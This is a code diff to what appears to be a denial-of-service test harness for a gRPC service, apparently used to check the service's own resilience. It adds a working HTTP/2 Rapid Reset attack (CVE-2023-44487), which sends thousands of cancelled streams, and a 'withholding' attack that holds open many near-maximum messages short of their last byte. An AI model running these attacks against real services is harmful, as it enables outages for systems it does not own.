@@ -7,9 +7,11 @@ import time
 from collections.abc import Callable, Iterator, Mapping
 from contextlib import AbstractContextManager, ExitStack, contextmanager, suppress
 from dataclasses import dataclass
+from select import select
 
 import grpc
 
+from fuzzing.frames import Withheld, taken_back
 from rheostat.v1.runs_pb2 import CreateRunRequest, WatchRunRequest
 from rheostat.v1.runs_pb2_grpc import RunsStub
 
@@ -17,6 +19,9 @@ HALF_OPEN = 2000
 SLOW = 100
 DEAF = 20
 HUGE_BYTES = 100 * 2**20
+WITHHOLDING = 200
+TAKEN_BACK = 10_000
+WITHHELD_METHODS = ("/rheostat.v1.Runs/CreateRun", "/grpc.health.v1.Health/Check")
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _HEADER = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: "
 
@@ -117,6 +122,42 @@ def huge(place: Place) -> Iterator[None]:
 
 
 @contextmanager
+def rapid_reset(place: Place) -> Iterator[None]:
+    """Calls that are taken back as soon as they are begun, by the thousand (CVE-2023-44487)."""
+    is_over = threading.Event()
+    calls = taken_back("/rheostat.v1.Runs/ListRuns", TAKEN_BACK)
+
+    def reset() -> None:
+        while not is_over.wait(0.1):
+            with suppress(OSError), _connect(place.address) as connection:
+                connection.sendall(calls)
+
+    with _thread(reset, is_over):
+        yield
+
+
+@contextmanager
+def withholding(place: Place) -> Iterator[None]:
+    """Calls of strangers that send all of the largest message that is allowed but its last byte."""
+    is_over = threading.Event()
+
+    def withhold() -> None:
+        with ExitStack() as stack:
+            calls: list[Withheld] = []
+            while not is_over.is_set():
+                if len(calls) < WITHHOLDING:
+                    method = WITHHELD_METHODS[len(calls) % 2]
+                    calls.append(Withheld(place.address, method, length=4 * 2**20 - 10))
+                    stack.callback(calls[-1].close)
+                for call in select(calls, [], [], 0.05)[0]:
+                    call.push()
+                calls[-1].push()
+
+    with _thread(withhold, is_over):
+        yield
+
+
+@contextmanager
 def _thread(work: Callable[[], None], is_over: threading.Event) -> Iterator[None]:
     thread = threading.Thread(target=work, name=work.__qualname__)
     thread.start()
@@ -133,4 +174,5 @@ ATTACKS: Mapping[str, Callable[[Place], AbstractContextManager[None]]] = {
     "slow_loris": slow_loris,
     "deaf": deaf,
     "huge": huge,
+    "rapid_reset": rapid_reset,
 }
